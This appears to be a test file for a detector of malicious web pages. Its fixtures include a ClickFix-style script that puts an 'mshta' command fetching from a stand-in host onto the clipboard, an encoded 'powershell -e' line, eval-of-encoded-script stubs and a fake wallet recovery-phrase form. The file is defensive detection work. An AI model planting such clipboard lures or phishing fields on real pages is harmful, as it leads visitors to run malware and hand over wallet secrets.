import { describe, expect, test } from "vitest";
import { evidenceOfPage } from "../../../test/url-checks/lab.ts";
import { lureOf } from "./lures.ts";

const lure = (body: string, title = "Page"): string | null =>
  lureOf(evidenceOfPage("http://www.shop.example/", `<title>${title}</title><body>${body}`));

const COPY = "navigator.clipboard.writeText";
const TEXT = "<p>many words about something else</p>".repeat(20);
const hexNames = (count: number) => Array.from({ length: count }, () => "_0x1a2b3c();").join("");

describe("content is suspicious", () => {
  test.each([
    [
      "a command on the clipboard to be run",
      `Press the Windows Key + R and then CTRL + V <script>${COPY}("mshta http://a.example/x")</script>`,
      /clipboard/,
    ],
    [
      "the same, written by the script",
      `<script>const a="Press Win+R, paste";document.execCommand('copy');"powershell -e AAAA"</script>`,
      /clipboard/,
    ],
    [
      "a captcha that wants to send notifications",
      "Click <b>Allow</b> to confirm that you are not a robot",
      /captcha/,
    ],
    ["a page inside a script", `<script>document.write(unescape('${"%3C".repeat(120)}'))</script>`, /script/],
    ["a program inside a script", `<script>eval(atob("${"QUJD".repeat(120)}"))</script>`, /script/],
    ["a program as numbers", `<script>eval(String.fromCharCode(${"104, ".repeat(80)}1))</script>`, /script/],
    ["a page that is nothing but a hidden script", `<script>${hexNames(60)}</script>`, /script/],
    [
      "a hidden script beside a password",
      `${TEXT}<input type=password><script>${hexNames(60)}</script>`,
      /script/,
    ],
    [
      "a field for a wallet's words",
      "Restore your wallet <textarea placeholder='Your 12 word recovery phrase'></textarea>",
      /wallet/,
    ],
    ["a drainer by its name", "<script>/* Inferno Drainer */</script>", /wallet/],
  ])("%s", (_, body, expected) => {
    expect(lure(body)).toMatch(expected);
  });
});

describe("content is not suspicious", () => {
  test.each([
    [
      "a guide with a command and a copy button",
      `Press Win + R and run powershell <script>button.onclick=()=>${COPY}(code.innerText)</script>`,
    ],
    ["a share button", `<script>${COPY}(location.href)</script>Paste it (Ctrl + V) into the Run dialog`],
    [
      "a true captcha",
      `Verify you are human. If the browser asks, click Allow.<script src="https://challenges.cloudflare.com/turnstile/v0/api.js"></script>`,
    ],
    ["a form with a captcha of its own", "I'm not a robot <input name=sum>"],
    [
      "the old statistics snippet",
      `<script>document.write(unescape("%3Cscript src='http://www.google-analytics.com/ga.js'%3E%3C/script%3E"))</script>`,
    ],
    ["a small picture inside a script", `<script>img.src = atob("${"QUJD".repeat(50)}"); eval("1")</script>`],
    ["an obfuscated advertisement on a page of text", `${TEXT}<script>${hexNames(200)}</script>`],
    [
      "a warning about wallets' words",
      "Never tell your wallet's recovery phrase to anybody <input name=q placeholder=Search>",
    ],
    ["a pass phrase for something else", "<input name=passphrase-hint>"],
  ])("%s", (_, body) => {
    expect(lure(body)).toBeNull();
  });
});

test("nothing is suspicious of what is no page", () => {
  expect(lureOf({ ...evidenceOfPage("http://www.shop.example/", ""), page: null })).toBeNull();
});
